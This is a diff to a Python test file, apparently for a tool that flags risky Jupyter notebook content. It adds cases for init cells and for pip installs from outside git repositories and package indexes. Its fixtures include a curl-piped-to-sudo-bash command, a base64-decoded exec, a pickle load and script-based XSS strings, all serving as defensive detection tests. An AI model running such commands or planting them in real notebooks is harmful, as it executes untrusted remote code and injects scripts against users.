@@ -27,6 +27,8 @@ def test_notebooks_are_programs_that_people_choose_to_run() -> None:
         cell("!curl http://x"),
         cell(["%%bash\n", "rm x"]),
         cell("1", jupyter={"source_hidden": True}),
+        cell("1", init_cell=True),
+        cell("!pip install git+https://github.com/x/y"),
         cell("1", [{"data": {"text/html": ["<b>x</b>", "<script>alert(1)</script>"]}}]),
         cell("1", [{"data": {"application/javascript": "alert(1)"}}]),
         markdown("<iframe src='https://x'></iframe>"),
@@ -42,6 +44,8 @@ SVG = "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
 ACTING = {
     "fetched and run": (cell("!curl -s http://x/y | sudo bash"), "notebook-code"),
     "written in letters": (cell("import base64\nexec(base64.b64decode('eA=='))"), "notebook-code"),
+    "a package from elsewhere": (cell("%pip install git+https://x.example/y"), "install-source"),
+    "an index from elsewhere": (cell("!pip install -i http://x.example/ torch"), "install-source"),
     "a pickle in a cell": (cell("pickle.loads(bytes.fromhex('80'))"), "notebook-code"),
     "a drawing": (
         cell("1", [{"data": {"image/svg+xml": "<svg onload=alert(1)>"}}]),
